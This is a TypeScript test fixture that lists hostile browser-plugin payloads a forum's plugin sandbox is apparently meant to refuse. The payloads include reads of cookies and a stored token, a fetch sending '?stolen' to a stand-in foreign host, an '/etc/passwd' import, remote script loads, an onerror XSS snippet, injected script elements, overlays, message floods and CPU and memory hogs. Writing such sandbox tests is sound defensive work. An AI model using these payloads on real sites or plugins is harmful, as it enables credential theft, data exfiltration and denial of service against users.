/** What a hostile browser plugin tries: its name, and the code of it. */
export interface Hostile {
  readonly tries: string
  /** Done before the module says what it is. */
  readonly setUp?: string
  /** The body of its component; draws a text without it. */
  readonly draw?: string
}

/**
 * A plugin that reaches for something where it runs. `reach` is an expression that may be awaited; it draws whether it
 * was answered, and with what.
 */
const reaching = (tries: string, reach: string): Hostile => ({
  tries,
  draw: `
    const [found, setFound] = host.useState('waiting')
    host.useEffect(() => {
      const late = new Promise((done) => setTimeout(done, 3000, 'refused'))
      const work = async () => ${reach}
      Promise.race([work(), late])
        .then((value) => (value === undefined || value === null ? 'refused' : String(value).slice(0, 80)), () => 'refused')
        .then(setFound)
    }, [])
    return h(ui.Text, null, 'reached ' + ${JSON.stringify(tries)} + ': ' + found)`,
})

/** What lies outside of the worker that a plugin runs in: each must be refused. */
export const reachers = (origin: string): readonly Hostile[] => [
  reaching('cookies', 'document.cookie'),
  reaching('local storage', "localStorage.getItem('token')"),
  reaching('session storage', 'sessionStorage.length'),
  reaching(
    'a database of the browser',
    "new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = done; asked.onerror = fail })",
  ),
  reaching('kept answers', "caches.open('x')"),
  reaching('the page', 'parent.document.title'),
  reaching('the top window', "(top.location.href = 'https://example.org/')"),
  reaching('a popup', "open('https://example.org/')"),
  reaching('the own site', `fetch('${origin}/api/v3/forum', { credentials: 'include' })`),
  reaching('a foreign site', "fetch('https://example.org/?stolen', { mode: 'no-cors' })"),
  reaching(
    'a request of the old kind',
    `new Promise((done, fail) => { const ask = new XMLHttpRequest(); ask.open('GET', '${origin}/api/v3/forum'); ask.onload = done; ask.onerror = fail; ask.send() })`,
  ),
  reaching(
    'a socket',
    "new Promise((done, fail) => { const socket = new WebSocket('wss://example.org'); socket.onopen = done; socket.onerror = fail })",
  ),
  reaching(
    'a stream',
    `new Promise((done, fail) => { const stream = new EventSource('${origin}/api/v3/stream'); stream.onopen = done; stream.onerror = fail })`,
  ),
  reaching('a script of another site', "import('https://example.org/x.js')"),
  reaching('a script that is data', "import('data:text/javascript,export default 1')"),
  reaching('an old script', `importScripts('${origin}/api/v3/forum')`),
  reaching('code of a text', "new Function('return 7')()"),
  reaching('a worker of its own', "new Worker(URL.createObjectURL(new Blob(['for (;;);'])))"),
  reaching('a file', "import('file:///etc/passwd')"),
  reaching('the environment', 'process.env.PATH'),
  reaching('modules of a server', "require('node:fs')"),
  reaching('a service worker', "navigator.serviceWorker.register('/x.js')"),
  reaching('routes of another plugin', "host.call('GET', '../../good/api/secret')"),
  reaching('the site as the reader', "host.callSite('GET', 'user')"),
  reaching('what it was given', "(() => { 'use strict'; props.site.lang = 'xx'; return 'changed' })()"),
]

/** Messages that the page is sent by a plugin which writes them itself. */
const sending = (tries: string, ...messages: readonly string[]): Hostile => ({
  tries,
  setUp: `for (const message of ${JSON.stringify(messages)}) postMessage(message)`,
})

const described = (node: string) => `{"tree":{"id":1,"tree":${node}}}`

/** What is drawn, said or sent against the page that draws it. */
export const attackers: readonly Hostile[] = [
  {
    tries: 'throws in its module',
    setUp: "throw new Error('hostile')",
  },
  { tries: 'exports nothing of use', setUp: 'return null' },
  { tries: 'never ends its start', setUp: 'return new Promise(() => {})' },
  { tries: 'throws while it draws', draw: "throw { toString() { throw new Error('hostile') } }" },
  {
    tries: 'throws in a hook',
    draw: "host.useMemo(() => { throw new Error('hostile') }, [])",
  },
  {
    tries: 'throws after it is drawn',
    draw: "host.useEffect(() => { setTimeout(() => { throw new Error('hostile') }) ; throw new Error('hostile') }, []); return null",
  },
  { tries: 'recurses', draw: 'const deeper = () => deeper() + 1; return deeper()' },
  {
    tries: 'draws itself again and again',
    draw: 'const [n, setN] = host.useState(0); setN(n + 1); return h(ui.Text, null, n)',
  },
  { tries: 'draws 10 MB', draw: "return h(ui.Text, null, 'x'.repeat(1e7))" },
  {
    tries: 'draws 100,000 parts',
    draw: "return h(ui.Stack, null, Array.from({ length: 1e5 }, () => h(ui.Text, null, 'x')))",
  },
  {
    tries: 'nests 3,000 parts',
    draw: "let one = 'x'; for (let i = 0; i < 3000; i += 1) one = h(ui.Stack, null, one); return one",
  },
  {
    tries: 'patches globals and prototypes',
    setUp: `JSON.stringify = () => '{}'; Array.prototype.map = () => { throw 1 }; Object.prototype.toJSON = () => 1
      Object.prototype.handler = 1; Promise.prototype.then = () => {}; postMessage('{"fault":"patched"}')`,
  },
  { tries: 'floods with messages', setUp: 'for (let i = 0; i < 1e5; i += 1) postMessage(\'{"pong":1}\')' },
  { tries: 'sends 10 MB', setUp: "postMessage('x'.repeat(1e7))" },
  { tries: 'sends what is no text', setUp: 'postMessage({ tree: { id: 1, tree: [] } })' },
  sending('sends broken JSON', '{'),
  sending('sends nothing', 'null', '7', '"text"', '[]'),
  sending('sends trees of another form', described('7')),
  sending('sends trees with holes', described('[null]')),
  sending('sends parts without props', described('[{"type":"Text"}]')),
  sending(
    'sends wrong faults',
    '{"fault":{"toString":1}}',
    '{"warnings":7}',
    '{"ask":{"n":1,"method":{},"route":[],"input":7}}',
  ),
  sending(
    'does what nobody offers',
    '{"act":{"id":1,"name":"__defineGetter__","args":[]}}',
    '{"act":{"id":1,"name":"toString"}}',
  ),
  sending(
    'describes elements of its own',
    described(
      '[{"type":"script","props":{},"children":["document.title=\'taken\'"]},{"type":"iframe","props":{"src":"https://example.org"},"children":[]},{"type":"constructor","props":{},"children":[]}]',
    ),
  ),
  {
    tries: 'lies over the page by its style',
    draw: `return h(ui.Card, {
      style: { position: 'fixed', inset: 0, zIndex: 999999 }, className: 'dialog', id: 'app', 'data-plugin': 'good',
      dangerouslySetInnerHTML: { __html: '<img src=x onerror="document.title=1">' }, ref: 'x', onClick: 'document.title = 1',
    }, h(ui.Link, { href: 'javascript:document.title=1' }, 'hostile link'),
      h(ui.Link, { href: '//example.org/' }, 'foreign link'),
      h(ui.Image, { src: 'https://example.org/stolen.png' }), h(ui.Image, { src: '/api/v3/users/logout' }))`,
  },
  {
    tries: 'opens a dialog that nobody asked for',
    draw: "return h(ui.Dialog, { open: true, title: 'hostile dialog' }, 'no way out')",
  },
  {
    tries: 'leads the page away',
    setUp: "setInterval(() => host.go('/user/login'), 100)",
  },
  {
    tries: 'is a thousand screens high',
    draw: "return h(ui.Stack, null, h(ui.Image, { src: '/files/none.png', width: 1, height: 1e6 }), Array.from({ length: 900 }, () => h(ui.Text, null, 'high')))",
  },
]

/** What takes the processor or the memory for itself, in a page each. */
export const hogs: readonly Hostile[] = [
  { tries: 'loops in its module', setUp: 'for (;;);' },
  { tries: 'loops while it draws', draw: 'for (;;);' },
  { tries: 'loops in a hook', draw: 'host.useEffect(() => { for (;;); }, []); return null' },
  { tries: 'loops in small steps', setUp: 'const step = () => Promise.resolve().then(step); step()' },
  { tries: 'fills the memory', setUp: "const all = []; for (;;) all.push('x'.repeat(1e6) + all.length)" },
]
